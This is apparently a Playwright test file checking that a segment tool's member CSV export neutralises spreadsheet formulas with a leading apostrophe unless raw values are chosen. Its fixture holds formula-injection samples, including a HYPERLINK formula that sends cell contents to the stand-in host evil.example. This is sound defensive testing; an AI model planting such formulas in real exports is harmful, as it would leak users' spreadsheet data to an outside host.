// Member CSV exports are safe to open in a spreadsheet: text that Excel or LibreOffice would run as
// a formula gets a leading apostrophe, numbers stay numbers; "raw values for other programs" writes
// them as imported, and the choice is remembered after a reload.
import { test, expect, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { importCard, openApp, newSegment } from './helpers';

const CSV =
	'id,name,amount\n' +
	'1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")",-5\n' +
	'2,+SUM(1),3\n' +
	'3,@me,-2.5\n' +
	'4,plain,7\n';

async function exportCsv(page: Page): Promise<string> {
	const [download] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('button', { name: 'Export members (CSV)' }).click()
	]);
	return readFileSync((await download.path())!, 'utf8');
}

test('member CSV neutralises formulas unless raw values are chosen', async ({ page }) => {
	await openApp(page, '/data');
	await page.getByTestId('file-input').setInputFiles({
		name: 'hostile.csv',
		mimeType: 'text/csv',
		buffer: Buffer.from(CSV)
	});
	const card = importCard(page, 'hostile.csv');
	await card.getByRole('button', { name: /^Import \d+ columns?$/ }).click();
	await expect(card.getByText('Imported')).toBeVisible();
	await page.getByLabel('Customer Profile entity').selectOption('hostile');
	await page.getByLabel('Customer Profile key').selectOption('id');
	await page.getByRole('button', { name: 'Set as Customer Profile' }).click();

	await newSegment(page, 'everyone');
	await page.getByLabel('Starting entity for group 1').fill('hostile');
	await expect(page.getByTestId('segment-count')).toHaveAttribute('data-current', 'true');
	await page.getByRole('button', { name: 'Save & activate' }).click();
	await expect(page).toHaveURL(/\/builder\?id=/);
	const id = new URL(page.url()).searchParams.get('id')!;
	await page.goto(`/segment?id=${id}`);
	await expect(page.getByTestId('segment-members')).toHaveText('4', { timeout: 60_000 });

	const safe = await exportCsv(page);
	expect(safe).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"');
	expect(safe).toContain("'+SUM(1)");
	expect(safe).toContain("'@me");
	expect(safe).toMatch(/,-5(\r\n|,)/);
	expect(safe).toMatch(/,-2\.5(\r\n|,)/);
	expect(safe).toContain(',plain,');

	const raw = page.getByLabel('CSV with raw values for other programs');
	await raw.check();
	const asImported = await exportCsv(page);
	expect(asImported).toContain('"=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"');
	expect(asImported).toContain(',+SUM(1),');
	expect(asImported).not.toContain("'");

	await page.reload();
	await expect(page.getByLabel('CSV with raw values for other programs')).toBeChecked();
});
